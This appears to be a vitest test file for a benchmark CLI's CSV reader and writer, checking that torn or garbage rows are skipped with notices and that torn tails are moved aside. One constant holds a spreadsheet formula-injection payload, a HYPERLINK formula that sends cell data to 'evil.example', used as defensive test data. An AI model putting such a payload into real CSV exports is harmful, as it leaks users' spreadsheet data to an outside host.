// A torn or garbage row in the perf CSV (a crash or a full disk mid-append leaves a partial last line,
// maybe inside a quoted field) never takes anything down: the readers (`disagg report`, `disagg
// compare`, the report of an output dir) skip it with one notice naming the file and line, and the
// writer moves a torn tail aside before its next append, so no row is lost or glued to the fragment.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CliIO } from '../../../src/cli/io.js';
import { main } from '../../../src/cli/main.js';
import { loadOutputDir } from '../../../src/report/from-output.js';
import {
  appendPerfRows,
  perfCsvHeader,
  perfCsvPath,
  readPerfCsv,
  readPerfCsvText,
} from '../../../src/results/csv.js';
import { samplesFromCsv } from '../../../src/results/compare-inputs.js';
import { PERF_CSV_COLUMNS, type PerfRow } from '../../../src/results/perf-rows.js';
import { testsFromCsvText } from '../../../src/report/from-csv.js';
import { fixturePath } from '../../fixtures/paths.js';
import { jobPerfRows } from '../../fixtures/perf-rows.js';

const REAL_CSV = fixturePath('trtllm/perf_script_test_results.csv');
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

let out: string;
beforeEach(() => {
  out = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-torn-'));
});
afterEach(() => fs.rmSync(out, { recursive: true, force: true }));

const rows = (concurrency: number, metricNames = ['median_ttft_ms', 'median_e2el_ms']): PerfRow[] =>
  jobPerfRows(
    'disagg_perf_m_1k1k_x',
    concurrency,
    Object.fromEntries(metricNames.map((m, i) => [m, concurrency + i])),
  );

async function disagg(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: CliIO = { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: {}, cwd: out };
  const code = await main(argv, io);
  return { code, stdout, stderr };
}

/** A CSV of concurrency 1 and 2 (2 rows each), then a third batch cut `cutAt` bytes into its last row. */
async function tornCsv(lastMetrics: string[], cutAt: (lastRow: string) => number): Promise<string> {
  const csv = perfCsvPath(out);
  await appendPerfRows(csv, rows(1));
  await appendPerfRows(csv, rows(2));
  const whole = fs.readFileSync(csv, 'utf8');
  await appendPerfRows(csv, rows(3, lastMetrics));
  const text = fs.readFileSync(csv, 'utf8');
  const lastRow = text.slice(whole.length).trimEnd().split('\n').pop() as string;
  const start = text.length - lastRow.length - 1;
  fs.writeFileSync(csv, text.slice(0, start + cutAt(lastRow)));
  return csv;
}

/** Every line of the file is the header or a whole 17-field row (what the original's tools need). */
function strictlyWhole(text: string): Array<Record<string, string>> {
  expect(text.endsWith('\n')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.meta.fields).toEqual([...PERF_CSV_COLUMNS]);
  return parsed.data;
}

describe('reading a perf CSV with a torn or garbage row', () => {
  it('a torn last row (cut mid-field): the whole rows are read, one notice names the file and line', async () => {
    const csv = await tornCsv(['median_ttft_ms', 'median_e2el_ms'], (row) => row.indexOf('_con:3') + 3);
    const notices: string[] = [];
    const read = readPerfCsvText(fs.readFileSync(csv, 'utf8'), csv, (n) => notices.push(n));
    expect(read.map((r) => [r.concurrency, r.metric])).toEqual([
      [1, 'median_ttft_ms'],
      [1, 'median_e2el_ms'],
      [2, 'median_ttft_ms'],
      [2, 'median_e2el_ms'],
      [3, 'median_ttft_ms'],
    ]);
    expect(notices).toHaveLength(1);
    expect(notices[0]).toMatch(
      new RegExp(`^${csv}: skipped 1 damaged line\\(s\\) \\(line 7: .*a torn last line`),
    );
  });

  it('a torn last row inside a half-open quoted field: the rows before it are all read', async () => {
    const csv = await tornCsv(['median_ttft_ms', HOSTILE], (row) => row.indexOf('HYPERLINK') + 4);
    expect(fs.readFileSync(csv, 'utf8')).toMatch(/,"'=HYPE$/);
    const { rows: read, skipped } = readPerfCsv(fs.readFileSync(csv, 'utf8'), csv);
    expect(read).toHaveLength(5);
    expect(skipped).toEqual([{ line: 7, reason: 'a quoted field is never closed, a torn last line' }]);
  });

  it('a garbage row in the middle (a stray quote, binary junk) costs only its own lines', async () => {
    const csv = perfCsvPath(out);
    await appendPerfRows(csv, rows(1));
    fs.appendFileSync(csv, '"garbage, never closed\n\u0000\u0001\u0002 binary junk\n');
    await appendPerfRows(csv, rows(2));
    const text = fs.readFileSync(csv, 'utf8');
    const notices: string[] = [];
    expect(samplesFromCsv(text, csv, (n) => notices.push(n)).map((s) => s.concurrency)).toEqual([1, 1, 2, 2]);
    expect(notices).toEqual([
      `${csv}: skipped 2 damaged line(s) (line 4: a quoted field is never closed; line 5: 1 field(s) where ` +
        'the header has 17); the other lines were read. Fix or delete the line(s) if they matter',
    ]);
    // The report reads the same rows, and names the same lines.
    const reportNotices: string[] = [];
    const tests = testsFromCsvText(text, csv, (n) => reportNotices.push(n));
    expect(tests.flatMap((t) => t.perf.map((p) => p.concurrency))).toEqual([1, 2]);
    expect(reportNotices).toEqual(notices);
  });

  it('only the start of the header (the very first write was cut): no rows, a notice, no error', () => {
    const { rows: read, skipped } = readPerfCsv(perfCsvHeader().slice(0, 30), 'h.csv');
    expect(read).toEqual([]);
    expect(skipped).toEqual([{ line: 1, reason: 'a torn header (cut short by a crash or a full disk)' }]);
  });

  it('the original framework’s real CSV (104 rows) with a torn row appended: 104 rows, one notice', () => {
    const real = fs.readFileSync(REAL_CSV, 'utf8');
    const notices: string[] = [];
    const read = readPerfCsvText(`${real}${real.split('\n')[1]?.slice(0, 40)}`, 'real.csv', (n) =>
      notices.push(n),
    );
    expect(read).toHaveLength(104);
    expect(notices).toEqual([
      expect.stringMatching(/^real\.csv: skipped 1 damaged line\(s\) \(line 106: .*torn last line/),
    ]);
  });
});

describe('appending after a torn tail', () => {
  for (const [what, metrics, cut] of [
    ['cut mid-row', ['median_ttft_ms', 'median_e2el_ms'], (row: string) => row.indexOf('_con:3') + 3],
    [
      'cut inside a half-open quote',
      ['median_ttft_ms', HOSTILE],
      (row: string) => row.indexOf('HYPERLINK') + 4,
    ],
  ] as const) {
    it(`${what}: the fragment is moved aside, no row is lost or glued to it, the file stays strict CSV`, async () => {
      const csv = await tornCsv([...metrics], cut);
      const before = fs.readFileSync(csv, 'utf8');
      const fragment = before.slice(before.lastIndexOf('\n') + 1);
      const notices: string[] = [];
      const r = await appendPerfRows(csv, rows(4), { onNotice: (n) => notices.push(n) });
      expect(r).toEqual({ file: csv, written: 2 });
      const after = fs.readFileSync(csv, 'utf8');
      // Every whole row before stays byte for byte; the new rows follow on lines of their own.
      expect(after.startsWith(before.slice(0, before.length - fragment.length))).toBe(true);
      const data = strictlyWhole(after);
      expect(data.map((d) => d.test_name.replace(/.*_con:/, ''))).toEqual([
        '1',
        '1',
        '2',
        '2',
        '3',
        '4',
        '4',
      ]);
      const aside = fs.readdirSync(out).filter((f) => f.includes('.torn-'));
      expect(aside).toHaveLength(1);
      expect(fs.readFileSync(path.join(out, aside[0] as string), 'utf8')).toBe(fragment);
      expect(notices).toEqual([
        expect.stringMatching(
          new RegExp(
            `^${csv}: its last line was torn \\(${Buffer.byteLength(fragment)} bytes .*moved it to ${out}/`,
          ),
        ),
      ]);
      // Nothing left to skip for the readers.
      expect(readPerfCsv(after, csv).skipped).toEqual([]);
    });
  }

  it('a whole last row that only lacks its newline (written by hand) is kept, not moved aside', async () => {
    const csv = perfCsvPath(out);
    await appendPerfRows(csv, rows(1));
    fs.writeFileSync(csv, fs.readFileSync(csv, 'utf8').trimEnd());
    await appendPerfRows(csv, rows(2));
    expect(strictlyWhole(fs.readFileSync(csv, 'utf8'))).toHaveLength(4);
    expect(fs.readdirSync(out).filter((f) => f.includes('.torn-'))).toEqual([]);
  });

  it('a file holding only the start of the header gets the whole header, then the rows', async () => {
    const csv = perfCsvPath(out);
    fs.writeFileSync(csv, perfCsvHeader().slice(0, 25));
    const notices: string[] = [];
    await appendPerfRows(csv, rows(1), { onNotice: (n) => notices.push(n) });
    expect(strictlyWhole(fs.readFileSync(csv, 'utf8'))).toHaveLength(2);
    expect(notices).toHaveLength(1);
  });

  it('a CSV of another header (one that starts like ours) without a final newline is left untouched', async () => {
    const csv = perfCsvPath(out);
    const other = `${PERF_CSV_COLUMNS.slice(0, 3).join(',')}\na,b,c\nd,e`;
    fs.writeFileSync(csv, other);
    const r = await appendPerfRows(csv, rows(1), { onNotice: () => undefined });
    expect(r.file).not.toBe(csv);
    expect(fs.readFileSync(csv, 'utf8')).toBe(other);
    expect(fs.readdirSync(out).filter((f) => f.includes('.torn-'))).toEqual([]);
  });

  it('a redo after a crash (skipRowsAlreadyThere) neither duplicates rows nor drops the ones after garbage', async () => {
    const csv = perfCsvPath(out);
    await appendPerfRows(csv, rows(1));
    fs.appendFileSync(csv, '"stray quote, never closed\n');
    await appendPerfRows(csv, rows(2));
    const r = await appendPerfRows(csv, [...rows(2), ...rows(5)], { skipRowsAlreadyThere: true });
    expect(r.written).toBe(2);
    expect(readPerfCsv(fs.readFileSync(csv, 'utf8'), csv).rows.map((x) => x.concurrency)).toEqual([
      1, 1, 2, 2, 5, 5,
    ]);
  });
});

describe('report and compare with a torn CSV', () => {
  it('disagg report <csv> and <output dir> succeed and say what they skipped', async () => {
    const csv = await tornCsv(['median_ttft_ms', HOSTILE], (row) => row.indexOf('HYPERLINK') + 4);
    const r = await disagg(['report', csv, '--json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const json = JSON.parse(r.stdout) as { tests: number; notes?: string[] };
    expect(json.tests).toBe(1);
    expect(json.notes).toEqual([
      expect.stringMatching(new RegExp(`^${csv}: skipped 1 damaged line\\(s\\) \\(line 7`)),
    ]);
    const dir = await loadOutputDir(out);
    expect(dir.tests.map((t) => t.perf.map((p) => p.concurrency))).toEqual([[1, 2, 3]]);
    expect(dir.notes).toEqual([expect.stringContaining(`${csv}: skipped 1 damaged line(s) (line 7`)]);
  });

  it('disagg compare of two torn CSVs exits by the verdict, naming each file’s skipped lines', async () => {
    const csv = await tornCsv(['median_ttft_ms', 'median_e2el_ms'], (row) => row.indexOf('_con:3') + 3);
    const copy = path.join(out, 'copy.csv');
    fs.copyFileSync(csv, copy);
    fs.appendFileSync(copy, '\n\u0000junk,"\n');
    const r = await disagg(['compare', copy, csv, '--json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const json = JSON.parse(r.stdout) as { regressions: number; skipped?: string[] };
    expect(json.regressions).toBe(0);
    expect(json.skipped).toEqual([
      expect.stringContaining(`${copy}: skipped 2 damaged line(s) (line 7:`),
      expect.stringContaining(`${csv}: skipped 1 damaged line(s) (line 7:`),
    ]);
  });
});
